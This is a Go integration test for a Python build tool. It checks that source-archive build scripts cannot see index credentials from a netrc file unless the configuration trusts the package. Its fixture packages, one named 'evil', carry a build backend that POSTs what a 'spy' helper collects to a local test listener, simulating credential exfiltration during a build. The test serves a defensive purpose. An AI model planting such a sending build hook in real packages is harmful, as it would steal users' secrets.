package integration

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// listener is a server that build scripts tell what they see.
type listener struct {
	*httptest.Server
	mu    sync.Mutex
	heard []string
}

func newListener(t *testing.T) *listener {
	t.Helper()
	l := &listener{}
	l.Server = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		text, _ := io.ReadAll(r.Body)
		l.mu.Lock()
		defer l.mu.Unlock()
		l.heard = append(l.heard, string(text))
	}))
	t.Cleanup(l.Close)
	return l
}

// stop returns what was heard, and forgets it.
func (l *listener) stop() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	all := strings.Join(l.heard, "\n")
	l.heard = nil
	return all
}

// talkative is a source archive whose build script tells a server what it sees. What it
// depends on is not known without running that.
func talkative(name, version string, l *listener) dist {
	return dist{name: name, version: version, sdist: true, files: map[string]string{
		"PKG-INFO":       "Metadata-Version: 1.0\nName: " + name + "\nVersion: " + version + "\n",
		"pyproject.toml": "[build-system]\nrequires = [\"helper\"]\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n",
		"backend.py": "import helper\n" + spy + fmt.Sprintf("import urllib.request\nurllib.request.urlopen(%q, json.dumps(spy()).encode()).close()\n", l.URL) +
			discreet(name, version),
	}}
}

// TestTrusted finds versions with a login at hand: no build script sees it but those that
// the configuration trusts.
func TestTrusted(t *testing.T) {
	t.Parallel()
	ear := newListener(t)
	newer := talkative("mixed", "1.0", ear)
	ix := newIndex(t, append(helpers(), talkative("evil", "1.0", ear), dist{name: "mixed", version: "0.9"}, newer, dist{name: "outer", version: "1.0", requires: []string{"evil"}})...)
	ix.user, ix.password = "builder", planted
	host, _, _ := strings.Cut(strings.TrimPrefix(ix.URL, "http://"), ":")
	session := passing(map[string]string{"netrc": "machine " + host + " login builder password " + planted + "\n"})
	const said = "would be built to know what it needs, and no build script runs where secrets are seen [PB526]"
	index := "--index-url " + ix.simple() + "\n"
	own := talkative("own", "1.0", ear).files
	own["backend.py"] = strings.Replace(own["backend.py"], `Name: own\nVersion: 1.0\n`, `Name: own\nVersion: 1.0\nRequires-Dist: mixed\n`, 1)
	delete(own, "PKG-INFO")
	for name, c := range map[string]struct {
		config, requirements string
		fails                []string
		modules              []string
		trusted              bool
	}{
		"a source archive": {requirements: "evil\n", fails: []string{"requirements.txt:2:1: evil " + said, `trusted = ["evil"]`}},
		"deeper":           {requirements: "outer\n", fails: []string{"evil " + said}},
		"from source":      {requirements: "--no-binary evil\nevil\n", fails: []string{"evil " + said}},
		"an older wheel":   {requirements: "mixed\n", modules: []string{"mixed.py"}},
		"a directory":      {requirements: "-e ./own\nhelper\n", modules: []string{"own.py", "mixed.py", "helper.py"}},
		"the project":      {modules: []string{"own.py", "mixed.py"}},
		"trusted":          {config: "[build]\ntrusted = [\"Evil\"]\n", requirements: "mixed\nevil\n", modules: []string{"evil.py", "mixed.py"}, trusted: true},
	} {
		t.Run(name, func(t *testing.T) {
			files := map[string]string{"pybuild.toml": strings.Replace(job, "[serve]", c.config+"[serve]", 1), "job.py": "", "requirements.txt": index + c.requirements}
			for file, text := range own {
				files["own/"+file] = text
			}
			if name == "the project" {
				// Only its build script knows what it needs.
				files = map[string]string{
					"pybuild.toml": strings.Replace(job, "script = \"job.py\"", "module = \"own\"", 1), "setup.py": "", "backend.py": own["backend.py"],
					"pyproject.toml": own["pyproject.toml"] + "[[tool.uv.index]]\nname = \"corp\"\nurl = \"" + ix.simple() + "\"\ndefault = true\n",
				}
			}
			b := build{dir: project(t, files), session: session, out: t.TempDir(), top: true}
			if c.fails != nil {
				b.fails(t, c.fails...)
			} else {
				tr := b.must(t)
				if said := "no build scripts run in this step"; !strings.Contains(tr.logs, said) {
					t.Errorf("the log does not say %q:\n%s", said, tr.logs)
				}
			}
			for _, module := range c.modules {
				if _, err := os.Stat(filepath.Join(b.out, sitePackages, module)); err != nil {
					t.Error(err)
				}
			}
			heard := ear.stop()
			if seen := strings.Contains(heard, planted); seen != c.trusted {
				t.Errorf("a build script has seen a secret: %v", seen)
			}
			if c.fails != nil && heard != "" {
				t.Error("a build script ran")
			}
		})
	}

	// So it is where a lock is written.
	manifest := func(version string) string {
		return "[project]\nname = \"own\"\n" + version + "requires-python = \">=3.13\"\ndependencies = [\"mixed\"]\n" + own["pyproject.toml"] +
			"[[tool.uv.index]]\nname = \"corp\"\nurl = \"" + ix.simple() + "\"\ndefault = true\n"
	}
	files := map[string]string{"pybuild.toml": strings.Replace(job, "[serve]\nscript = \"job.py\"", "[serve]\nmodule = \"own\"", 1), "backend.py": own["backend.py"], "pyproject.toml": manifest("dynamic = [\"version\"]\n")}
	lock := build{dir: project(t, files), session: session, attrs: map[string]string{"target": "lock"}, read: []string{"uv.lock"}}
	lock.fails(t, "own "+said, `trusted = ["own"]`)
	files["pyproject.toml"] = manifest("version = \"1.0\"\n")
	lock.dir = project(t, files)
	if text := lock.must(t).files["uv.lock"]; !strings.Contains(text, "mixed-0.9") {
		t.Errorf("the lock is\n%s", text)
	}
	if ear.stop() != "" {
		t.Error("a build script ran to lock")
	}

	// Without a secret there is nothing to see.
	open := newIndex(t, append(helpers(), dist{name: "mixed", version: "0.9"}, newer)...)
	dir := project(t, map[string]string{"pybuild.toml": job, "job.py": "", "requirements.txt": "--index-url " + open.simple() + "\nmixed\n"})
	tr := build{dir: dir, read: []string{sitePackages + "mixed.json"}}.must(t)
	if tr.files[sitePackages+"mixed.json"] == "" || strings.Contains(tr.logs, "no build scripts run") {
		t.Errorf("the newest version is not built:\n%s", tr.logs)
	}
}
